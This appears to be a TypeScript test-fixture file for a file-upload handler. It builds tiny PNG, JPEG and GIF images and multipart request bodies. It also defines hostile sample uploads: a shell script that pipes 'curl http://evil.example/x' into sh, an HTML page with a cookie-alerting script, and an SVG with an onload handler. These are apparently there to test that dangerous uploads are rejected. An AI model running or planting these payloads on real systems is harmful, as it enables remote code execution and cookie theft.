import { crc32, deflateSync } from 'node:zlib';

// Test fixtures: tiny images built byte by byte, and a multipart body builder for `inject`.

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A valid 1×1 RGBA PNG; `padding` zero bytes after IEND make it as large as a test needs. */
export function tinyPng(padding = 0): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0, 255]))),
    pngChunk('IEND', Buffer.alloc(0)),
    Buffer.alloc(padding),
  ]);
}

/** The start of a baseline JPEG (SOI and a JFIF APP0 segment) and its end marker. */
export function tinyJpeg(): Buffer {
  const jfif = Buffer.from([
    0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
  ]);
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), jfif, Buffer.from([0xff, 0xd9])]);
}

/** A 1×1 GIF89a. */
export function tinyGif(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
}

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const HTML_PAGE = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
export const SVG_IMAGE = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
);

export interface MultipartFile {
  field?: string;
  name: string;
  type: string;
  bytes: Uint8Array;
}

/** A multipart/form-data body and its content type, built by the platform's own FormData. */
export async function multipartPayload(
  entries: (MultipartFile | [string, string])[],
): Promise<{ payload: Buffer; headers: { 'content-type': string } }> {
  const form = new FormData();
  for (const entry of entries) {
    if (Array.isArray(entry)) form.append(entry[0], entry[1]);
    else form.append(entry.field ?? 'file', new Blob([entry.bytes], { type: entry.type }), entry.name);
  }
  const request = new Request('http://localhost/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type') ?? '' },
  };
}
